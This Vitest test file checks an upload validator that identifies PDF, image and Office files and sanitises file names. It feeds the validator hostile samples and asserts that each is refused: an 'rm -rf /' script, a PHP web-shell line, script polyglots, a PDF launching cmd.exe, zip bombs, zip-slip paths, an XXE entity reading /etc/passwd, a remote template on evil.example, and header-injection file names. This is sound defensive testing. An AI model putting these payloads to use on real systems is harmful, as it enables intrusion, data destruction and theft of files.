import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { checkContent, cleanFileName } from '../../server/files/index.js';
import { packedObject, pdf } from './pdf.js';
import { chunk, jpeg, png } from './pictures.js';
import { docx, xlsx, zip, type Part } from './zip.js';

const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const rels = (relation: string): Part => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships>${relation}</Relationships>`,
});
const bytes = (text: string) => Buffer.from(text, 'latin1');

describe('a file is what its content is', () => {
  it.each([
    ['a PDF', pdf(), 'application/pdf'],
    ['a PDF with links to the web', pdf('4 0 obj\n<< /S /URI /URI (https://example.org) >>\nendobj'), 'application/pdf'],
    ['a PDF with packed objects', pdf(packedObject('<< /Type /Page >>')), 'application/pdf'],
    ['a PNG', png(), 'image/png'],
    ['a JPEG', jpeg(), 'image/jpeg'],
    ['a text', Buffer.from('Sita Gurung\r\nघरेलु उद्योग\t١٢٣\n'), 'text/plain'],
    ['a DOCX', docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['a DOCX with a link', docx(rels('<Relationship Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/>')),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['an XLSX', xlsx(), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ] as const)('%s', async (_what, content, type) => {
    expect((await checkContent(content)).type).toBe(type);
  }); // prettier-ignore
});

describe('a file that is refused', () => {
  const bomb = Buffer.alloc(40 * 1024 * 1024);
  const [a, b] = [deflateRawSync('a'), 'x'];
  it.each<[string, Buffer, RegExp]>([
    ['0 byte', Buffer.alloc(0), /empty/],
    ['nothing known', Buffer.from([0, 1, 2, 3, 250, 251]), /none of/],
    ['an executable called a PDF', bytes('MZ\x90\x00\x03'), /none of/],
    ['text in UTF-16', Buffer.from('﻿curriculum', 'utf16le'), /none of/],
    ['HTML', bytes('  <!DOCTYPE html><p>Hello'), /markup/],
    ['SVG with a script', bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), /markup/],
    ['SVG behind an XML declaration', bytes('<?xml version="1.0"?><svg/>'), /markup/],
    ['a script', bytes('#!/bin/sh\nrm -rf /\n'), /markup/],
    ['PHP', bytes('hello <?php system($_GET[0]) ?>'), /markup/],
    ['GIF and JavaScript at once', bytes('GIF89a/*\x01\x00*/=1;alert(1)'), /none of|markup/],
    ['GIF and JavaScript in plain letters', bytes('GIF89a=1;alert(1)'), /markup/],
    ['PDF and HTML at once', pdf('<html><script>alert(1)</script></html>'), /web page/],
    ['HTML before a PDF', Buffer.concat([bytes('<html>'), pdf()]), /markup/],
    ['PDF with something behind', Buffer.concat([pdf(), Buffer.alloc(2000, 65)]), /follows/],
    ['PDF with an archive behind', Buffer.concat([pdf(), zip([{ name: 'a', content: 'b' }])]), /follows/],
    ['an encrypted PDF', pdf('trailer << /Encrypt 8 0 R >>'), /encrypted/],
    ['a PDF with JavaScript', pdf('4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'), /JavaScript/],
    ['a PDF with JavaScript in hexadecimal', pdf('4 0 obj\n<< /S /J#61vaScript >>\nendobj'), /JavaScript/],
    ['a PDF with JavaScript in a packed object', pdf(packedObject('<< /S /JavaScript /JS (app.alert(1)) >>')), /JavaScript/],
    ['a PDF with a packed object under a hidden name', pdf(packedObject('<< /JS (1) >>').replace('/ObjStm', '/Obj#53tm')), /unusual/],
    ['a PDF with an object packed twice', pdf(packedObject('<< /JS (1) >>', '[/ASCIIHexDecode /FlateDecode]')), /unusual/],
    ['a PDF that starts a program', pdf('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj'), /program/],
    ['a PDF with a file in it', pdf('4 0 obj\n<< /Type /EmbeddedFile >>\nendobj'), /another file/],
    ['a PDF of 5,000 pages', pdf('<< /Type /Page >>\n'.repeat(5000)), /pages/],
    ['a PDF that unpacks without end', pdf(packedObject(' '.repeat(120 * 1024 * 1024))), /packed/],
    ['a PNG of 65535 × 65535', png(65535, 65535), /too large/],
    ['a PNG of no size', png(0, 5), /no size/],
    ['a PNG cut off', png().subarray(0, 50), /cut off/],
    ['a PNG with a wrong sum', Buffer.from(png()).fill(7, 16, 20), /damaged/],
    ['a JPEG of 65535 × 65535', jpeg(65535, 65535), /too large/],
    ['a JPEG cut off', jpeg().subarray(0, -4), /cut off|damaged/],
    ['an archive', zip([{ name: 'a.txt', content: 'a' }]), /Archives/],
    ['a zip bomb', docx({ name: 'word/media/a.xml', content: bomb }), /unpacks/],
    ['a zip bomb that says it is small', docx({ name: 'word/a.xml', content: bomb, says: 10 }), /says less/],
    ['an archive in an archive', docx({ name: 'word/a.dat', content: zip([{ name: 'a', content: 'b' }]) }), /holds an archive/],
    ['zip-slip', docx({ name: '../../etc/cron.d/x', content: 'x' }), /leads elsewhere/],
    ['zip-slip in Windows', docx({ name: '..\\..\\x', content: 'x' }), /leads elsewhere/],
    ['an absolute name', docx({ name: '/etc/passwd', content: 'x' }), /leads elsewhere/],
    ['two parts of one name', docx({ name: 'WORD/document.xml', content: 'x' }), /one name/],
    ['an encrypted archive', docx({ name: 'word/a.xml', content: 'x', encrypted: true }), /encrypted/],
    ['an archive with something behind', Buffer.concat([docx(), a, bytes(b)]), /cut off|follows/],
    ['an archive with something before', Buffer.concat([docx(), docx()]), /damaged|follows|elsewhere/],
    ['too many parts', docx(...Array.from({ length: 2100 }, (_, n) => ({ name: `word/${n}.txt`, content: '' }))), /parts/],
    ['DOCX with a macro', docx({ name: 'word/vbaProject.bin', content: 'x' }), /macros/],
    ['XLSX with a macro sheet', xlsx({ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }), /macros/],
    ['DOCX that says it has macros', docx({ name: 'word/x.xml', content: '<x t="application/vnd.ms-word.document.macroEnabled.main+xml"/>' }), /macros/],
    ['DOCX with an external entity', docx({ name: 'word/x.xml', content: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }), /entities/],
    ['DOCX with a template elsewhere', docx(rels('<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>')), /elsewhere/],
    ['DOCX with an embedded file', docx({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), /other files/],
    ['DOCX in UTF-16', docx({ name: 'word/x.xml', content: Buffer.from('﻿<!DOCTYPE x>', 'utf16le') }), /unusual/],
    ['EICAR', bytes(EICAR), /virus/],
    ['EICAR in a document', docx({ name: 'word/note.txt', content: EICAR }), /virus/],
  ])('%s', async (_what, content, why) => {
    await expect(checkContent(content)).rejects.toMatchObject({ code: 'file-refused', message: expect.stringMatching(why) });
  }); // prettier-ignore
});

describe('a picture', () => {
  it('keeps nothing of where and with what it was taken, and nothing that follows it', async () => {
    const more = [
      chunk('tEXt', bytes('Comment\0CANARY')),
      chunk('eXIf', bytes('CANARY')),
      chunk('iTXt', bytes('x\0\0\0\0\0CANARY')),
    ];
    const clean = (await checkContent(png(2, 2, { more, after: '<script>CANARY' }))).content;
    expect(clean.includes('CANARY')).toBe(false);
    expect(clean.equals(png())).toBe(true);
    const photo = (await checkContent(jpeg(2, 2, { exif: 'CANARY', after: 'CANARY' }))).content;
    expect(photo.equals(jpeg())).toBe(true);
  });
});

describe('the name of a file', () => {
  it.each([
    ['cv.pdf', 'cv.pdf'],
    ['cv.pdf.exe', 'cv.pdf'],
    ['cv.exe', 'cv.pdf'],
    ['../../etc/passwd', 'passwd.pdf'],
    ['C:\\Users\\Sita\\cv.docx', 'cv.pdf'],
    ['cv\u0000.pdf', 'cv.pdf'],
    ['cv\r\nX-Injected: 1.pdf', 'cvX-Injected_ 1.pdf'],
    ['\u202Efdp.exe', 'fdp.pdf'],
    ['CON', '_CON.pdf'],
    ['con.txt', '_con.pdf'],
    ['cv. . .', 'cv.pdf'],
    ['.htaccess', 'htaccess.pdf'],
    ['😀😀.pdf', 'file.pdf'],
    ['', 'file.pdf'],
    [undefined, 'file.pdf'],
    ['e\u0301tude.pdf', 'étude.pdf'],
    ['سيرة ذاتية.pdf', 'سيرة ذاتية.pdf'],
    ['\uD800cv.pdf', '\uFFFDcv.pdf'],
    ['report v1.2.pdf', 'report v1.2.pdf'],
  ])('%j becomes %j', (given, clean) => {
    expect(cleanFileName(given, 'application/pdf')).toBe(clean);
  });

  it('has at most 150 characters', () => {
    expect([...cleanFileName('ä'.repeat(300), 'image/jpeg')]).toHaveLength(150);
  });
});
